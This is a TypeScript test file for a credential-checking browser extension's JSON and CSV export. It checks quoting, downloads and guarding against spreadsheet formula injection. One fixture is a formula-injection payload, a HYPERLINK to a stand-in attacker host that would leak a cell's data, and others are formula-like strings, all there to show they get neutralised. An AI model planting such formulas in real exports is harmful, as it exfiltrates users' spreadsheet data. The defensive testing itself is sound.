// @vitest-environment happy-dom
/**
 * Exports for an ATS: JSON keeps the Reports as they are; CSV has one row per credential, RFC 4180
 * quoting, and no cell a spreadsheet would run as a formula; download() saves through a Blob URL.
 */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { explain } from '../../../sdk/explain/index.js';
import type { Report } from '../../../sdk/report/types.js';
import type { Item, PageSummary, VerifiedItem } from '../../../extension/lib/protocol.js';
import { CSV_COLUMNS, csvCell, download, exportName, summaryToCsv, summaryToJson } from '../../../extension/lib/ui/export.js';

function report(over: Partial<Report> = {}): Report {
  return {
    verdict: 'valid',
    format: 'ob3-json',
    checks: [
      { id: 'proof', status: 'pass', message: 'eddsa-rdfc-2022 proof verified.' },
      { id: 'status', status: 'skip', message: 'The issuer publishes no revocation status for this credential.' },
    ],
    credential: {
      name: 'Cloud Architecture, Level 2',
      issuer: { id: 'did:web:academy.example', name: 'Example Academy' },
      subject: { name: 'Amélie Nováková' },
      issued: '2025-03-01T00:00:00Z',
      expires: '2028-03-01T00:00:00Z',
    },
    trust: { level: 'known', signals: [{ id: 'listed', status: 'positive', source: 'Test list', message: 'Listed.' }] },
    elements: { title: { state: 'present', value: 'Cloud Architecture, Level 2', from: 'name' } },
    assessment: { kind: 'assessed', evidence: ['a grade is recorded'] },
    completeness: { mandatoryPresent: 7, mandatoryTotal: 11, missing: ['issuerCountry', 'workload', 'level', 'participationForm'] },
    recipient: { state: 'match', detail: 'Name matches.' },
    ...over,
  };
}

function done(r: Report, url: string): VerifiedItem {
  return { state: 'done', url, text: 'Show credential', report: r, explained: explain(r, 'en'), checkedAt: '2026-03-01T09:30:00.000Z' };
}

const items: Item[] = [
  done(report(), 'https://academy.example/c/1'),
  done(
    report({
      verdict: 'revoked',
      credential: {
        name: 'Say "hello"\nworld',
        issuer: { name: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
        subject: {},
        issued: '+1-555-0100',
      },
      trust: { level: 'unknown', signals: [] },
      recipient: { state: 'mismatch', detail: 'Different name.' },
      assessment: { kind: 'participation', evidence: [] },
    }),
    'https://academy.example/c/2',
  ),
  { state: 'error', url: 'https://www.credly.com/badges/x', text: '@SUM(A1:A9)', code: 'network', message: 'No answer.', checkedAt: '2026-03-01T09:31:00.000Z' },
  { state: 'pending', url: 'https://academy.example/c/4', text: '-2+3' },
];

const summary: PageSummary = { tabId: 3, pageUrl: 'https://www.linkedin.com/in/amelie/', owner: 'Amélie Nováková', items };

/** A small RFC 4180 parser, to read back what was written. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('summaryToCsv', () => {
  const csv = summaryToCsv(summary);
  const rows = parseCsv(csv);

  it('writes a header and one row per credential, CRLF-terminated', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(1 + items.length);
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
  });

  it('fills the columns from the Report', () => {
    expect(rows[1]).toEqual([
      'Cloud Architecture, Level 2', 'https://academy.example/c/1', 'Example Academy', 'valid', 'known', 'assessed', '7', '11', 'match',
      '2025-03-01T00:00:00Z', '2028-03-01T00:00:00Z', '2026-03-01T09:30:00.000Z',
    ]);
    expect(rows[2]!.slice(3, 6)).toEqual(['revoked', 'unknown', 'participation']);
    expect(rows[2]![8]).toBe('mismatch');
    expect(rows[3]!.slice(0, 4)).toEqual(["'@SUM(A1:A9)", 'https://www.credly.com/badges/x', '', 'error']);
    expect(rows[4]!.slice(0, 4)).toEqual(["'-2+3", 'https://academy.example/c/4', '', 'pending']);
  });

  it('quotes per RFC 4180', () => {
    expect(csv).toContain('"Cloud Architecture, Level 2"');
    expect(csv).toContain('"Say ""hello""\nworld"');
    expect(rows[2]![0]).toBe('Say "hello"\nworld');
  });

  it('neutralises cells a spreadsheet would run as formulas', () => {
    expect(rows[2]![2]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(rows[2]![9]).toBe("'+1-555-0100");
    for (const r of rows.slice(1)) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('csvCell handles every dangerous first character and plain values', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe('"\'\r=1"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(11)).toBe('11');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('Amélie 1=1')).toBe('Amélie 1=1');
  });
});

describe('summaryToJson', () => {
  it('keeps every Report exactly as it is', () => {
    const back = JSON.parse(summaryToJson(summary));
    expect(back.pageUrl).toBe(summary.pageUrl);
    expect(back.owner).toBe(summary.owner);
    expect(back.items).toHaveLength(items.length);
    expect(back.items[0].report).toEqual((items[0] as VerifiedItem).report);
    expect(back.items[1].report).toEqual((items[1] as VerifiedItem).report);
    expect(back.items[0]).toMatchObject({ url: 'https://academy.example/c/1', state: 'done', checkedAt: '2026-03-01T09:30:00.000Z' });
    expect(back.items[0].explained).toBeUndefined();
    expect(back.items[2]).toEqual({ url: 'https://www.credly.com/badges/x', text: '@SUM(A1:A9)', state: 'error', checkedAt: '2026-03-01T09:31:00.000Z', error: { code: 'network', message: 'No answer.' } });
    expect(back.items[3]).toEqual({ url: 'https://academy.example/c/4', text: '-2+3', state: 'pending' });
  });
});

describe('download', () => {
  afterEach(() => vi.restoreAllMocks());

  it('saves the text through a Blob URL and revokes it', async () => {
    vi.useFakeTimers();
    const blobs: Blob[] = [];
    const create = vi.spyOn(URL, 'createObjectURL').mockImplementation((b: Blob | MediaSource) => {
      blobs.push(b as Blob);
      return 'blob:credlens-test';
    });
    const revoke = vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
    const clicked: HTMLAnchorElement[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      clicked.push(this);
    });
    download('credlens.csv', 'a,b\r\n', 'text/csv');
    expect(create).toHaveBeenCalledOnce();
    expect(clicked).toHaveLength(1);
    expect(clicked[0]!.download).toBe('credlens.csv');
    expect(clicked[0]!.getAttribute('href')).toBe('blob:credlens-test');
    expect(clicked[0]!.isConnected).toBe(false);
    expect(await blobs[0]!.text()).toBe('a,b\r\n');
    expect(blobs[0]!.type).toBe('text/csv');
    vi.runAllTimers();
    expect(revoke).toHaveBeenCalledWith('blob:credlens-test');
    vi.useRealTimers();
  });

  it('names exports after the page and the day', () => {
    const day = new Date('2026-03-01T12:00:00Z');
    expect(exportName(summary, 'csv', day)).toBe('credlens-www.linkedin.com-2026-03-01.csv');
    expect(exportName({ ...summary, pageUrl: 'Lebenslauf Amélie.pdf' }, 'json', day)).toBe('credlens-Lebenslauf-Amélie-2026-03-01.json');
  });
});
